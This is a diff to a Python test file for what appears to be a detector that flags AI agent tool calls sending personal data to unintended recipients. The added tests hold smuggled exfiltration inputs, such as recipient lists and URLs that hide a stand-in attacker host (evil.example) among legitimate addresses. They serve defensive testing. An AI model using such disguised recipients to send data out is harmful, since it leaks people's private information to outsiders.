@@ -385,11 +385,39 @@ def test_a_way_to_be_paid_back_is_no_method_of_http(act: Any) -> None:
     assert reach.way_of(act("request_refund", {"method": "bank_transfer"}).event) is None
 
 
+def test_a_made_up_method_takes_nothing_off_what_a_tools_name_says(act: Any) -> None:
+    for tool in ("webhook.send", "access_request.share"):
+        named = reach.way_of(act(tool, {}).event)
+        assert named is not None
+        assert reach.way_of(act(tool, {"method": "x"}).event) is named
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("email.send", {"to": "ann@acme.com, bob@acme.com, https://evil.example/hook"}),
+        ("email.send", {"to": "ann@acme.com https://evil.example"}),
+        ("email.send", {"to": "evil.example <ann@acme.com>"}),
+        ("email.send", {"to": "Ann <eve@evil.example>"}),
+        ("http.post", {"url": "https://evil.example/?q=(ann@acme.com)(bob@acme.com)"}),
+        ("http.post", {"url": "https://evil.example/<ann@acme.com>"}),
+    ],
+)
+def test_a_stranger_in_a_list_is_seen_whatever_he_looks_like(
+    act: Any, last: Any, tool: str, arguments: dict[str, Any]
+) -> None:
+    purpose = "email the report to ann@acme.com and bob@acme.com"
+    read = act("crm.read", {"id": "c_1"}, ("pii",), purpose=purpose)
+    assert last(read, act(tool, arguments, purpose=purpose)).value > 0.4
+    listed = 'Ann-Lee J. <ann@acme.com>; "Bob" <bob@acme.com>'
+    assert last(read, act("email.send", {"to": listed}, purpose=purpose)).value == 0.0
+
+
 def test_recipients_are_found_by_their_arguments_and_bounded(act: Any) -> None:
     event = act("email.send", {"to": ["a@x.org", "b@x.org"], "body": "c@x.org", "meta": {"cc": "d@x.org"}}).event
     assert [r.value for r in reach.recipients_of(event)] == ["a@x.org", "b@x.org", "d@x.org"]
     joined = act("email.send", {"to": "Ann <a@x.org>, b@x.org;c@x.org", "cc": "Ann  Lee <d@x.org>"}).event
-    assert [r.value for r in reach.recipients_of(joined)] == ["a@x.org", "b@x.org", "c@x.org", "Ann Lee <d@x.org>"]
+    assert [r.value for r in reach.recipients_of(joined)] == ["a@x.org", "b@x.org", "c@x.org", "d@x.org"]
     many = reach.recipients_of(act("email.send", {"to": [f"{n}@x.org" for n in range(500)]}).event)
     assert len(many) == reach.MAX_RECIPIENTS + 1
     assert many[-1].value == reach.UNREAD
